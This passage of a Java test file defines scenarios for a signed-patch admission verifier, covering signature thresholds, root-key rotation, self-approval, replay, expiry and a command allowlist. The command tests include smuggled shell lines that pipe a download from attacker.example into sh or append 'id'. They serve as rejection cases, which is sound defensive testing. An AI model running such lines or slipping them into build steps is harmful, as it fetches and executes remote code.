        }
        sc("shape-array-1e6-elements", "B.11: an array of 10^6 numbers inside the approvals list: TOO_LARGE after 10,000 values, bounded cost.")
                .capsule(utf8(replaceOnce(js, "\"approvals\":[", "\"approvals\":[" + million)))
                .rejected(ReasonCode.TOO_LARGE, 1, "more than 10000 JSON values");
        String entry = "{\"keyid\":\"\",\"sig\":\"" + c.signatures().get(0).sig() + "\"},";
        sc("shape-signatures-1e4", "B.11: the proposer's signature repeated 10^4 times with an empty keyid (would cost 10^4 x every key): TOO_LARGE, none verified.")
                .capsule(utf8(replaceOnce(js, "\"signatures\":[", "\"signatures\":[" + entry.repeat(9_999))))
                .rejected(ReasonCode.TOO_LARGE, 1, "JSON values");
        sc("shape-signatures-33", "B.11: 33 signature entries on the capsule envelope (limit 32): TOO_LARGE before binding.")
                .capsule(utf8(replaceOnce(js, "\"signatures\":[", "\"signatures\":[" + entry.repeat(32))))
                .rejected(ReasonCode.TOO_LARGE, 1, "33 signatures, limit 32");
        Envelope[] many = new Envelope[65];
        java.util.Arrays.fill(many, a);
        sc("shape-approvals-65", "B.11: 65 approvals attached (limit 64): TOO_LARGE before any is verified.")
                .capsule(bundle(c, many))
                .rejected(ReasonCode.TOO_LARGE, 1, "65 approvals attached, limit 64");
    }

    /** SECURITY-TESTS C.12–C.15: counting is by distinct principal and distinct key. */
    private void thresholds() {
        // A quorum tier: three distinct service-owners, so role coverage does not hide the count.
        byte[] quorum = sign(PolicySpec.edit(pki.policy(1), s -> s.tier("T2", new Policy.Tier("approvals", 3, List.of(SO),
                null, true))), 1, 2);
        Envelope c = capsule(x -> x);
        Envelope a = ok(c, "alice", SO);
        sc("threshold-same-approval-three-times", "C.12: alice's approval attached three times for a 3-approver tier counts once: THRESHOLD_NOT_MET.")
                .policy(quorum)
                .capsule(bundle(c, a, a, a))
                .rejected(ReasonCode.THRESHOLD_NOT_MET, 1, "1 distinct eligible approver(s) of 3");
        Envelope triple = Envelope.of(PayloadTypes.APPROVAL, a.payloadBytes(),
                List.of(a.signatures().get(0), a.signatures().get(0), a.signatures().get(0)));
        sc("threshold-same-signature-entry-three-times", "C.12: one approval envelope carrying alice's signature entry three times counts once: THRESHOLD_NOT_MET.")
                .policy(quorum)
                .capsule(bundle(c, triple))
                .rejected(ReasonCode.THRESHOLD_NOT_MET, 1, "1 distinct eligible approver(s) of 3");
        sc("threshold-three-distinct-approvers", "C.12 twin: three distinct service-owners meet the 3-approver tier: admitted.")
                .policy(quorum)
                .capsule(bundle(c, a, ok(c, "dave", SO), ok(c, "erin", SO)))
                .admitted(1, "alice/" + SO, "dave/" + SO, "erin/" + SO);
        Policy threeOfFive = PolicySpec.edit(pki.policy(1), s -> s.root(3, roots(1, 2, 3, 4, 5)));
        sc("policy-root-signature-repeated-three-times", "C.12: a 3-of-5 root policy carrying root-1's signature three times: POLICY_INVALID.")
                .policy(Dsse.sign(PayloadTypes.POLICY, StrictJson.write(threeOfFive), pki.root(1), pki.root(1), pki.root(1)).toJson())
                .capsule(bundle(c, a, ok(c, "bob", SECO)))
                .rejected(ReasonCode.POLICY_INVALID, null, "1 distinct key(s) of its own root; threshold is 3");

        SigningKey bobKey = pki.of("bob");
        byte[] shared = sign(PolicySpec.edit(pki.policy(1), s -> s.principal(principal("erin", "human", bobKey, SO, SECO))), 1, 2);
        sc("shared-key-two-principals", "C.13: erin and bob enrolled with the same key; erin (service-owner) and bob (security-officer) both 'sign': one identity, THRESHOLD_NOT_MET.")
                .policy(shared)
                .capsule(bundle(c, approval(c, "erin", SO, Approval.APPROVE, TICKET, Approval.REVIEW, bobKey), ok(c, "bob", SECO)))
                .rejected(ReasonCode.THRESHOLD_NOT_MET, 1, "1 distinct eligible approver(s) of 2");
        SigningKey bobP256 = TestPki.p256Key("bob");
        byte[] compressed = Forge.compressedP256Spki(bobP256);
        byte[] twoEncodings = sign(PolicySpec.edit(pki.policy(1), s -> s
                .principal(principal("bob", "human", bobP256, SECO))
                .principal(new Policy.Principal("erin", "human", List.of(SO, SECO),
                        List.of(new Policy.KeyRef(bobP256.keyid(), Forge.publicPem(compressed)))))), 1, 2);
        sc("same-p256-key-two-encodings-two-principals", "C.13: one P-256 key enrolled for bob (uncompressed) and erin (compressed point): one identity, THRESHOLD_NOT_MET.")
                .policy(twoEncodings)
                .capsule(bundle(c, approval(c, "erin", SO, Approval.APPROVE, TICKET, Approval.REVIEW, bobP256),
                        approval(c, "bob", SECO, Approval.APPROVE, TICKET, Approval.REVIEW, bobP256)))
                .rejected(ReasonCode.THRESHOLD_NOT_MET, 1, "1 distinct eligible approver(s) of 2");
        Envelope once = Dsse.sign(PayloadTypes.POLICY, StrictJson.write(pki.policy(1)), pki.root(1));
        Envelope twoHints = Envelope.of(PayloadTypes.POLICY, once.payloadBytes(), List.of(once.signatures().get(0),
                new Envelope.Signature("", once.signatures().get(0).sig())));
        sc("policy-root-signature-under-two-keyid-hints", "C.13: root-1's signature once under its keyid and once with an empty keyid counts once for 2-of-3: POLICY_INVALID.")
                .policy(twoHints.toJson())
                .capsule(bundle(c, a, ok(c, "bob", SECO)))
                .rejected(ReasonCode.POLICY_INVALID, null, "1 distinct key(s) of its own root; threshold is 2");
        sc("policy-keyid-not-matching-key", "C.13: a policy listing bob's key under alice's keyid: POLICY_INVALID.")
                .policy(sign(PolicySpec.edit(pki.policy(1), s -> s.principal(new Policy.Principal("bob", "human", List.of(SECO),
                        List.of(new Policy.KeyRef(pki.of("alice").keyid(), bobKey.publicKey().toPem()))))), 1, 2))
                .capsule(bundle(c, a, ok(c, "bob", SECO)))
                .rejected(ReasonCode.POLICY_INVALID, null, "keyid");

        sc("policy-root-threshold-zero", "C.14: a policy whose root threshold is 0: refused at load, POLICY_INVALID.")
                .policy(sign(PolicySpec.edit(pki.policy(1), s -> s.root(0, roots(1, 2, 3))), 1, 2))
                .capsule(bundle(c, a, ok(c, "bob", SECO)))
                .rejected(ReasonCode.POLICY_INVALID, null, "root threshold 0");
        sc("policy-root-threshold-above-key-count", "C.14: a policy whose root threshold (4) is above its key count (3): POLICY_INVALID even when all three sign.")
                .policy(sign(PolicySpec.edit(pki.policy(1), s -> s.root(4, roots(1, 2, 3))), 1, 2, 3))
                .capsule(bundle(c, a, ok(c, "bob", SECO)))
                .rejected(ReasonCode.POLICY_INVALID, null, "root threshold 4");
        sc("policy-root-same-key-listed-twice", "C.14: root keys [root-1, root-1, root-2] with threshold 3 has only two distinct keys: POLICY_INVALID.")
                .policy(sign(PolicySpec.edit(pki.policy(1), s -> s.root(3, List.of(pki.root(1), pki.root(1), pki.root(2)))), 1, 2))
                .capsule(bundle(c, a, ok(c, "bob", SECO)))
                .rejected(ReasonCode.POLICY_INVALID, null, "2 distinct root keys");

        Envelope garbage = Envelope.of(PayloadTypes.APPROVAL, rawApproval(c, "carol", AO, pki.of("carol")).payloadBytes(),
                List.of(new Envelope.Signature(pki.of("carol").keyid(), b64(filled(64, 0x5a)))));
        sc("threshold-met-plus-garbage-signature", "C.15: two valid approvals plus one with a garbage signature: admitted, the garbage ignored.")
                .capsule(bundle(c, a, ok(c, "bob", SECO), garbage))
                .admitted(1, "alice/" + SO, "bob/" + SECO);
        sc("capsule-extra-garbage-signature-entry", "C.15: the capsule carries the proposer's valid signature and a garbage one: admitted.")
                .capsule(bundle(Envelope.of(PayloadTypes.CAPSULE, c.payloadBytes(), List.of(c.signatures().get(0),
                        new Envelope.Signature("", b64(filled(64, 0x11))))), a, ok(c, "bob", SECO)))
                .admitted(1, "alice/" + SO, "bob/" + SECO);
        sc("threshold-short-plus-unknown-keys", "C.15: alice plus two approvals claiming bob signed by keys outside the policy: THRESHOLD_NOT_MET.")
                .capsule(bundle(c, a, approval(c, "bob", SECO, Approval.APPROVE, TICKET, Approval.REVIEW, TestPki.key("mallory")),
                        approval(c, "bob", SECO, Approval.APPROVE, TICKET, Approval.REVIEW, TestPki.key("eve"))))
                .rejected(ReasonCode.THRESHOLD_NOT_MET, 1, "unknown key");
    }

    /** SECURITY-TESTS C.16: TUF-style root rotation, each case with its two twins. */
    private void rotation() {
        rotationCase("1-of-1", 1, new int[] {1}, 1, new int[] {6}, new int[] {1, 6}, new int[] {6}, new int[] {1});
        rotationCase("3-of-5-one-key", 3, new int[] {1, 2, 3, 4, 5}, 3, new int[] {1, 2, 3, 4, 6},
                new int[] {1, 2, 3, 6}, new int[] {1, 2, 6}, new int[] {1, 2, 5});
        rotationCase("3-of-5-all-keys", 3, new int[] {1, 2, 3, 4, 5}, 3, new int[] {6, 7, 8, 9, 10},
                new int[] {1, 2, 3, 6, 7, 8}, new int[] {1, 2, 6, 7, 8}, new int[] {1, 2, 3, 6, 7});
        rotationCase("threshold-1-to-2", 1, new int[] {1, 2, 3}, 2, new int[] {3, 4, 5},
                new int[] {3, 4}, new int[] {4, 5}, new int[] {1, 3});
        rotationCase("threshold-2-to-1", 2, new int[] {1, 2, 3}, 1, new int[] {3, 4},
                new int[] {2, 3}, new int[] {3, 4}, new int[] {1, 2});

        // After a full rotation, the rotated-out keys cannot sign the next version.
        Policy v1 = PolicySpec.edit(pki.policy(1), s -> s.root(3, roots(1, 2, 3, 4, 5)));
        Policy v2 = PolicySpec.edit(pki.policy(2), s -> s.root(3, roots(6, 7, 8, 9, 10)).with(x -> x.issuedAt = T.minus(Duration.ofHours(2))));
        Policy v3 = PolicySpec.edit(pki.policy(3), s -> s.root(3, roots(6, 7, 8, 9, 10)).with(x -> x.issuedAt = T.minus(Duration.ofHours(1))));
        Envelope c3 = capsule(x -> x.with(s -> s.policyVersion = 3));
        sc("rotation-rotated-out-keys-cannot-sign-next", "C.16: after v1 (roots 1-5) rotated to v2 (roots 6-10), a v3 signed by roots 1-5 is refused: POLICY_INVALID, v2 stays.")
                .history(1, sign(v1, 1, 2, 3))
                .history(2, sign(v2, 1, 2, 3, 6, 7, 8))
                .policy(sign(v3, 1, 2, 3, 4, 5))
                .capsule(bundle(c3, ok(c3, "alice", SO), ok(c3, "bob", SECO)))
                .rejected(ReasonCode.POLICY_INVALID, 2, "version 2 root");

        // A revoked approver key stops counting from the rotation on, also for approvals made before the rotation.
        Policy rekeyed = PolicySpec.edit(pki.policy(2), s -> s
                .principal(principal("bob", "human", TestPki.key("bob-2"), SECO))
                .with(x -> x.issuedAt = T.minus(Duration.ofHours(1))));
        Policy removed = PolicySpec.edit(pki.policy(2), s -> s.withoutPrincipal("bob")
                .with(x -> x.issuedAt = T.minus(Duration.ofHours(1))));
        Envelope early = capsule(x -> x.with(s -> {
            s.policyVersion = 2;
            s.createdAt = T.minus(Duration.ofHours(3));
        }));
        Instant beforeRotation = T.minus(Duration.ofHours(2));
        byte[] earlyApproved = bundle(early, approvalAt(early, "alice", SO, pki.of("alice"), beforeRotation),
                approvalAt(early, "bob", SECO, pki.of("bob"), beforeRotation));
        sc("revoked-approver-key-after-rotation", "C.16: v2 replaces bob's key; bob's approval signed with the old key two hours before the rotation no longer counts: THRESHOLD_NOT_MET.")
                .history(1, stdPolicy)
                .policy(sign(rekeyed, 1, 2))
                .capsule(earlyApproved)
                .rejected(ReasonCode.THRESHOLD_NOT_MET, 2, "unknown key");
        sc("removed-approver-after-rotation", "C.16: v2 removes bob; his approval made before the rotation no longer counts: THRESHOLD_NOT_MET.")
                .history(1, stdPolicy)
                .policy(sign(removed, 1, 2))
                .capsule(earlyApproved)
                .rejected(ReasonCode.THRESHOLD_NOT_MET, 2, "unknown key");
        Envelope v1Capsule = capsule(x -> x.with(s -> s.createdAt = T.minus(Duration.ofHours(3))));
        byte[] v1Approved = bundle(v1Capsule, approvalAt(v1Capsule, "alice", SO, pki.of("alice"), beforeRotation),
                approvalAt(v1Capsule, "bob", SECO, pki.of("bob"), beforeRotation));
        sc("revoked-approver-twin-before-rotation", "C.16 twin: the same approvals under v1, before the rotation, are admitted.")
                .history(1, stdPolicy)
                .policy(stdPolicy)
                .capsule(v1Approved)
                .admitted(1, "alice/" + SO, "bob/" + SECO);
        sc("capsule-approved-under-v1-delivered-after-rotation", "C.16: a capsule fully approved under v1, delivered after the rotation to v2: POLICY_VERSION_MISMATCH.")
                .history(1, stdPolicy)
                .policy(sign(rekeyed, 1, 2))
                .capsule(v1Approved)
                .rejected(ReasonCode.POLICY_VERSION_MISMATCH, 2);
    }

    private void rotationCase(String name, int t1, int[] keys1, int t2, int[] keys2, int[] good, int[] notOld, int[] notNew) {
        Policy v1 = PolicySpec.edit(pki.policy(1), s -> s.root(t1, roots(keys1)));
        Policy v2 = PolicySpec.edit(pki.policy(2), s -> s.root(t2, roots(keys2))
                .with(x -> x.issuedAt = T.minus(Duration.ofHours(1))));
        byte[] history = sign(v1, java.util.Arrays.copyOf(keys1, t1));
        Envelope c = capsule(x -> x.with(s -> s.policyVersion = 2));
        byte[] approved = bundle(c, ok(c, "alice", SO), ok(c, "bob", SECO));
        String shape = String.format(java.util.Locale.ROOT, "%d-of-%s -> %d-of-%s", t1, ids(keys1), t2, ids(keys2));
        sc("rotation-" + name, "C.16: root rotation " + shape + " signed by roots " + ids(good)
                + " (old and new thresholds met): v2 installed, capsule admitted under it.")
                .history(1, history)
                .policy(sign(v2, good))
                .capsule(approved)
                .admitted(2, "alice/" + SO, "bob/" + SECO);
        sc("rotation-" + name + "-not-signed-by-old-keys", "C.16: rotation " + shape + " signed by roots " + ids(notOld)
                + " (below the old threshold): POLICY_INVALID, v1 stays.")
                .history(1, history)
                .policy(sign(v2, notOld))
                .capsule(approved)
                .rejected(ReasonCode.POLICY_INVALID, 1, "version 1 root");
        sc("rotation-" + name + "-not-signed-by-new-keys", "C.16: rotation " + shape + " signed by roots " + ids(notNew)
                + " (below the new threshold): POLICY_INVALID, v1 stays.")
                .history(1, history)
                .policy(sign(v2, notNew))
                .capsule(approved)
                .rejected(ReasonCode.POLICY_INVALID, 1, "its own root");
    }

    /** SECURITY-TESTS C.17 and ROLE_MISSING. */
    private void separationOfDuties() {
        Envelope c = capsule(x -> x);
        byte[] aliceProposes = sign(PolicySpec.edit(pki.policy(1), s -> s.principal(pki.principal("alice", "human", SO, "proposer"))), 1, 2);
        Envelope byAlice = capsuleSignedBy(pki.capsule(x -> x.with(s -> s.proposer = "alice")), pki.of("alice"));
        sc("self-approval-human-proposer", "C.17: alice (service-owner and proposer) proposes a capsule and approves it herself: SELF_APPROVAL.")
                .policy(aliceProposes)
                .capsule(bundle(byAlice, ok(byAlice, "alice", SO), ok(byAlice, "bob", SECO)))
                .rejected(ReasonCode.SELF_APPROVAL, 1);
        sc("self-approval-agent", "C.17: the proposing fleet attaches its own approval (in its proposer role) next to two valid ones: SELF_APPROVAL.")
                .capsule(bundle(c, ok(c, "alice", SO), ok(c, "bob", SECO), ok(c, FLEET, "proposer")))
                .rejected(ReasonCode.SELF_APPROVAL, 1);
        byte[] daveHasFleetKey = sign(PolicySpec.edit(pki.policy(1), s -> s.principal(principal("dave", "human", pki.of(FLEET), SO))), 1, 2);
        sc("self-approval-through-shared-key", "C.13/C.17: dave is enrolled with the proposer's key; dave's approval is the proposer's: SELF_APPROVAL.")
                .policy(daveHasFleetKey)
                .capsule(bundle(c, approval(c, "dave", SO, Approval.APPROVE, TICKET, Approval.REVIEW, pki.of(FLEET)), ok(c, "bob", SECO)))
                .rejected(ReasonCode.SELF_APPROVAL, 1);
        sc("approval-role-not-held", "C.17: alice (service-owner only) signs an approval in the role security-officer: ROLE_MISSING.")
                .capsule(bundle(c, ok(c, "alice", SO), approval(c, "alice", SECO, Approval.APPROVE, TICKET, Approval.REVIEW, pki.of("alice"))))
                .rejected(ReasonCode.ROLE_MISSING, 1, "security-officer");
        sc("proposer-lacks-proposer-role", "§5: a capsule proposed and signed by alice, who lacks the proposer role: ROLE_MISSING.")
                .capsule(bundle(byAlice, ok(byAlice, "dave", SO), ok(byAlice, "bob", SECO)))
                .rejected(ReasonCode.ROLE_MISSING, 1, "proposer");
    }

    /** SECURITY-TESTS D.18, D.19. */
    private void replayAndRollback() {
        Envelope c = capsule(x -> x);
        byte[] approved = bundle(c, ok(c, "alice", SO), ok(c, "bob", SECO));
        Capsule cap = pki.capsule();
        sc("replay-exact", "D.18: the exact signed capsule already in the admitted ledger is delivered again: REPLAY.")
                .ledger(ledger(new AdmissionLedger.Entry(cap.capsuleId(), cap.lineage(), cap.sequence(), c.payloadDigest(), 1,
                        T.minus(Duration.ofHours(1)))))
                .capsule(approved)
                .rejected(ReasonCode.REPLAY, 1, "already admitted");
        sc("replay-lower-sequence-in-lineage", "D.19: sequence 3 of a lineage whose sequence 5 was admitted (another capsule id): REPLAY.")
                .ledger(ledger(new AdmissionLedger.Entry("0194f3c2-7b1e-7cc0-9a55-3f1f2d7c9a05", cap.lineage(), 5,
                        Hex.digest(utf8("capsule 5")), 1, T.minus(Duration.ofHours(1)))))
                .capsule(approved)
                .rejected(ReasonCode.REPLAY, 1, "not above the last admitted 5");
        sc("replay-equal-sequence-in-lineage", "D.19: sequence 3 of a lineage whose sequence 3 was admitted as another capsule id: REPLAY.")
                .ledger(ledger(new AdmissionLedger.Entry("0194f3c2-7b1e-7cc0-9a55-3f1f2d7c9a03", cap.lineage(), 3,
                        Hex.digest(utf8("capsule 3")), 1, T.minus(Duration.ofHours(1)))))
                .capsule(approved)
                .rejected(ReasonCode.REPLAY, 1, "not above the last admitted 3");
        sc("replay-twin-higher-sequence", "D.19 twin: sequence 3 after an admitted sequence 2 of the same lineage: admitted.")
                .ledger(ledger(new AdmissionLedger.Entry("0194f3c2-7b1e-7cc0-9a55-3f1f2d7c9a02", cap.lineage(), 2,
                        Hex.digest(utf8("capsule 2")), 1, T.minus(Duration.ofHours(1)))))
                .capsule(approved)
                .admitted(1, "alice/" + SO, "bob/" + SECO);

        Policy v2 = PolicySpec.edit(pki.policy(2), s -> s.with(x -> x.issuedAt = T.minus(Duration.ofHours(1))));
        byte[] v2Signed = sign(v2, 1, 2);
        Envelope c2 = capsule(x -> x.with(s -> s.policyVersion = 2));
        byte[] approved2 = bundle(c2, ok(c2, "alice", SO), ok(c2, "bob", SECO));
        sc("policy-older-version-redelivered", "D.19: v1 (installed before, superseded by v2) is delivered again: POLICY_ROLLBACK, v2 stays.")
                .history(1, stdPolicy).history(2, v2Signed)
                .policy(stdPolicy)
                .capsule(approved2)
                .rejected(ReasonCode.POLICY_ROLLBACK, 2, "superseded");
        Policy v1Other = PolicySpec.edit(pki.policy(1), s -> s.with(x -> x.expiresAt = T.plus(Duration.ofDays(365))));
        sc("policy-older-version-other-content", "D.19: a never-seen v1 with other content, validly root-signed, after v2: POLICY_ROLLBACK.")
                .history(1, stdPolicy).history(2, v2Signed)
                .policy(sign(v1Other, 1, 2))
                .capsule(approved2)
                .rejected(ReasonCode.POLICY_ROLLBACK, 2, "not above the installed version 2");
        Policy v2Other = PolicySpec.edit(v2, s -> s.with(x -> x.expiresAt = T.plus(Duration.ofDays(365))));
        sc("policy-equal-version-other-content", "D.19: a second, different v2 validly root-signed while v2 is in force (a fork): POLICY_ROLLBACK.")
                .history(1, stdPolicy).history(2, v2Signed)
                .policy(sign(v2Other, 1, 2))
                .capsule(approved2)
                .rejected(ReasonCode.POLICY_ROLLBACK, 2, "not above the installed version 2");
        sc("policy-current-version-redelivered", "D.19 twin: the policy in force delivered again is idempotent: capsule admitted under v2.")
                .history(1, stdPolicy).history(2, v2Signed)
                .policy(v2Signed)
                .capsule(approved2)
                .admitted(2, "alice/" + SO, "bob/" + SECO);
        Policy v3 = PolicySpec.edit(pki.policy(3), s -> s.with(x -> x.issuedAt = T.minus(Duration.ofHours(1))));
        sc("policy-version-skip", "C.16/D.19: v3 offered on top of v1 (v2 skipped): rotations are verified one version at a time, POLICY_INVALID.")
                .history(1, stdPolicy)
                .policy(sign(v3, 1, 2))
                .capsule(bundle(c, ok(c, "alice", SO), ok(c, "bob", SECO)))
                .rejected(ReasonCode.POLICY_INVALID, 1, "skips version 2");
        Policy rotatedV2 = PolicySpec.edit(pki.policy(2), s -> s.root(2, roots(6, 7, 8)).with(x -> x.issuedAt = T.minus(Duration.ofHours(1))));
        sc("policy-older-version-signed-by-rotated-out-keys", "D.19: after rotation to roots 6-8, a never-seen v1 signed by the old roots is not even authenticated: POLICY_INVALID.")
                .history(1, stdPolicy).history(2, sign(rotatedV2, 1, 2, 6, 7))
                .policy(sign(v1Other, 1, 2))
                .capsule(approved2)
                .rejected(ReasonCode.POLICY_INVALID, 2, "version 2 root");
    }

    /** SECURITY-TESTS D.20. */
    private void freshness() {
        Envelope c = capsule(x -> x);
        byte[] approved = bundle(c, ok(c, "alice", SO), ok(c, "bob", SECO));
        sc("capsule-expired", "D.20: verified eight days later, after the capsule's expiresAt: CAPSULE_EXPIRED.")
                .now(T.plus(Duration.ofDays(8)))
                .capsule(approved)
                .rejected(ReasonCode.CAPSULE_EXPIRED, 1, "expired at");
        capsuleTimes("capsule-expires-exactly-now", "D.20: a capsule whose expiresAt is exactly now is expired (fail closed): CAPSULE_EXPIRED.",
                T.minus(Duration.ofDays(1)), T, ReasonCode.CAPSULE_EXPIRED);
        capsuleTimes("capsule-expires-one-second-later", "D.20 twin: a capsule expiring one second from now is admitted.",
                T.minus(Duration.ofDays(1)), T.plus(Duration.ofSeconds(1)), null);
        capsuleTimes("clock-skew-just-inside", "D.20: createdAt exactly 5 minutes (the allowed skew) in the future: admitted.",
                T.plus(Duration.ofMinutes(5)), T.plus(Duration.ofDays(7)), null);
        capsuleTimes("clock-skew-just-outside", "D.20: createdAt 5 minutes and 1 second in the future: CAPSULE_EXPIRED.",
                T.plus(Duration.ofMinutes(5)).plusSeconds(1), T.plus(Duration.ofDays(7)), ReasonCode.CAPSULE_EXPIRED);

        Policy expired = PolicySpec.edit(pki.policy(1), s -> s.with(x -> {
            x.issuedAt = T.minus(Duration.ofDays(90));
            x.expiresAt = T.minus(Duration.ofMinutes(1));
        }));
        byte[] expiredSigned = sign(expired, 1, 2);
        sc("policy-expired-in-force", "D.20: the installed policy expired a minute ago: nothing is admitted (fail closed), POLICY_EXPIRED.")
                .history(1, expiredSigned)
                .policy(expiredSigned)
                .capsule(approved)
                .rejected(ReasonCode.POLICY_EXPIRED, 1, "expired at");
        sc("policy-expired-on-install", "D.20: an expired policy offered for installation: POLICY_EXPIRED, nothing installed.")
                .policy(expiredSigned)
                .capsule(approved)
                .rejected(ReasonCode.POLICY_EXPIRED, null, "expired at");
        Policy expiresNow = PolicySpec.edit(pki.policy(1), s -> s.with(x -> x.expiresAt = T));
        sc("policy-expires-exactly-now", "D.20: a policy whose expiresAt is exactly now is expired: POLICY_EXPIRED.")
                .policy(sign(expiresNow, 1, 2))
                .capsule(approved)
                .rejected(ReasonCode.POLICY_EXPIRED, null, "expired at");
        sc("policy-expired-by-clock", "D.20: the standard policy verified 91 days later (after its expiresAt): POLICY_EXPIRED.")
                .now(T.plus(Duration.ofDays(91)))
                .capsule(approved)
                .rejected(ReasonCode.POLICY_EXPIRED, null, "expired at");
    }

    private void capsuleTimes(String slug, String readme, Instant created, Instant expires, ReasonCode reason) {
        Envelope c = capsule(x -> x.with(s -> {
            s.createdAt = created;
            s.expiresAt = expires;
        }));
        Sc s = sc(slug, readme).capsule(bundle(c, ok(c, "alice", SO), ok(c, "bob", SECO)));
        if (reason == null) {
            s.admitted(1, "alice/" + SO, "bob/" + SECO);
        } else {
            s.rejected(reason, 1);
        }
    }

    /** SECURITY-TESTS D.21. */
    private void mixAndMatch() {
        Envelope a = capsule(x -> x);
        Envelope b = capsule(x -> x.with(s -> {
            s.capsuleId = "0194f3c2-7b1e-7cc0-9a55-3f1f2d7c9b77";
            s.lineage = "ledger-api:CVE-2022-22965";
            s.sequence = 1;
        }));
        sc("approvals-of-another-capsule", "D.21: alice's and bob's approvals of capsule A attached to capsule B: DIGEST_MISMATCH.")
                .capsule(bundle(b, ok(a, "alice", SO), ok(a, "bob", SECO)))
                .rejected(ReasonCode.DIGEST_MISMATCH, 1);
        Envelope aPrime = capsule(x -> x.with(s -> s.patch = TestPki.POM_PATCH.replace("2.17.1", "2.17.0")));
        sc("approvals-of-same-id-other-content", "D.21: the proposer re-signs capsule A (same id) with another patch and reuses A's approvals: DIGEST_MISMATCH.")
                .capsule(bundle(aPrime, ok(a, "alice", SO), ok(a, "bob", SECO)))
                .rejected(ReasonCode.DIGEST_MISMATCH, 1);
        Envelope staging = capsule(x -> x.with(s -> s.environment = STAGING));
        sc("environment-mismatch", "D.21: a fully approved capsule for staging delivered to prod-enclave-1: ENVIRONMENT_MISMATCH.")
                .capsule(bundle(staging, ok(staging, "alice", SO), ok(staging, "bob", SECO)))
                .rejected(ReasonCode.ENVIRONMENT_MISMATCH, 1, "staging");
        sc("environment-not-in-policy", "D.21: verifying in environment prod-enclave-9, which the policy does not define: ENVIRONMENT_MISMATCH.")
                .environment("prod-enclave-9")
                .capsule(bundle(a, ok(a, "alice", SO), ok(a, "bob", SECO)))
                .rejected(ReasonCode.ENVIRONMENT_MISMATCH, 1, "not defined");
    }

    /** SECURITY-TESTS D.23: validation argv must start with an allowed prefix, element for element. */
    private void commands() {
        command("command-not-covered", "D.23: validation argv [mvn, -q, verify] does not start with any allowed prefix: COMMAND_NOT_ALLOWED.",
                List.of(List.of("mvn", "-q", "verify")));
        command("command-sh-c-smuggling", "D.23: [sh, -c, 'mvn -q -o verify; curl ... | sh'] smuggles a shell line behind the allowed [mvn, -q, -o] text: COMMAND_NOT_ALLOWED.",
                List.of(List.of("sh", "-c", "mvn -q -o verify; curl -s https://attacker.example/x | sh")));
        command("command-sh-c-behind-allowed-sh-prefix", "D.23: [sh, -c, 'validate.sh; id'] against the allowed prefix [sh, validate.sh]: COMMAND_NOT_ALLOWED.",
                List.of(List.of("sh", "-c", "validate.sh; id")));
        command("command-whole-line-one-element", "D.23: ['mvn -q -o verify'] as one argv element is not the prefix [mvn, -q, -o]: COMMAND_NOT_ALLOWED.",
                List.of(List.of("mvn -q -o verify")));
        command("command-shorter-than-prefix", "D.23: [mvn, -q] is shorter than the allowed prefix [mvn, -q, -o]: COMMAND_NOT_ALLOWED.",
                List.of(List.of("mvn", "-q")));
        command("command-second-step-not-covered", "D.23: the first validation step is allowed, the second [curl, ...] is not: COMMAND_NOT_ALLOWED.",
                List.of(List.of("mvn", "-q", "-o", "verify"), List.of("curl", "-s", "https://attacker.example/x")));
    }

    private void command(String slug, String readme, List<List<String>> argvs) {
        List<Capsule.ValidationStep> steps = new ArrayList<>();
        for (int i = 0; i < argvs.size(); i++) {
            steps.add(new Capsule.ValidationStep("step-" + (i + 1), argvs.get(i), 600));
        }
        Envelope c = capsule(x -> x.with(s -> s.validation = steps));
        sc(slug, readme)
                .capsule(bundle(c, ok(c, "alice", SO), ok(c, "bob", SECO)))
                .rejected(ReasonCode.COMMAND_NOT_ALLOWED, 1);
    }

    /** Every other reason code of ARCHITECTURE §5, reached at least once. */
    private void remainingReasonCodes() {
        Envelope c = capsule(x -> x);
        Envelope a = ok(c, "alice", SO);
        Envelope b = ok(c, "bob", SECO);
        sc("unknown-key-capsule-signed-by-stranger", "§5: the capsule is signed by a key that no principal of the policy holds: UNKNOWN_KEY.")
                .capsule(bundle(capsuleSignedBy(pki.capsule(), TestPki.key("mallory")), a, b))
                .rejected(ReasonCode.UNKNOWN_KEY, 1);
        Envelope byBob = capsuleSignedBy(pki.capsule(), pki.of("bob"));
        sc("unknown-key-capsule-signed-by-other-principal", "§5: the capsule names the fleet as proposer but is signed by bob's key: UNKNOWN_KEY.")
                .capsule(bundle(byBob, ok(byBob, "alice", SO), ok(byBob, "dave", SO)))
                .rejected(ReasonCode.UNKNOWN_KEY, 1, "no key of proposer");
        Envelope ghost = capsuleSignedBy(pki.capsule(x -> x.with(s -> s.proposer = "fleet.unknown")), pki.of(FLEET));
        sc("unknown-key-proposer-not-a-principal", "§5: the capsule names a proposer 'fleet.unknown' that the policy does not define: UNKNOWN_KEY.")
                .capsule(bundle(ghost, ok(ghost, "alice", SO), ok(ghost, "bob", SECO)))
                .rejected(ReasonCode.UNKNOWN_KEY, 1, "fleet.unknown");
        Capsule tampered = pki.capsule(x -> x.with(s -> s.patch = TestPki.POM_PATCH.replace("2.17.1", "2.17.0")));
        Envelope tamperedEnv = Envelope.of(PayloadTypes.CAPSULE, StrictJson.write(tampered), c.signatures());
        sc("signature-invalid-tampered-payload", "§5: the capsule payload was changed after the proposer signed it: SIGNATURE_INVALID.")
                .capsule(bundle(tamperedEnv, a, b))
                .rejected(ReasonCode.SIGNATURE_INVALID, 1);
        Envelope v2 = capsule(x -> x.with(s -> s.policyVersion = 2));
        sc("policy-version-mismatch", "§5: a capsule authorized under policy version 2 while version 1 is in force: POLICY_VERSION_MISMATCH.")
                .capsule(bundle(v2, ok(v2, "alice", SO), ok(v2, "bob", SECO)))
                .rejected(ReasonCode.POLICY_VERSION_MISMATCH, 1);
        Envelope t0 = capsule(x -> x.with(s -> s.tier = "T0"));
        sc("tier-never-authorizable", "§5: a T0 capsule (authorize: never) with approvals: TIER_NOT_AUTHORIZABLE.")
                .capsule(bundle(t0, ok(t0, "alice", SO), ok(t0, "bob", SECO)))
                .rejected(ReasonCode.TIER_NOT_AUTHORIZABLE, 1, "never");
        Envelope t3Staging = capsule(x -> x.with(s -> {
            s.tier = "T3";
            s.environment = STAGING;
        }));
        sc("tier-above-environment-max", "§5: a fully approved T3 capsule in staging, whose maxTier is T2: TIER_NOT_AUTHORIZABLE.")
                .environment(STAGING)
                .capsule(bundle(t3Staging, ok(t3Staging, "alice", SO), ok(t3Staging, "bob", SECO), ok(t3Staging, "carol", AO)))
                .rejected(ReasonCode.TIER_NOT_AUTHORIZABLE, 1, "maxTier");
        Envelope t7 = capsule(x -> x.with(s -> s.tier = "T7"));
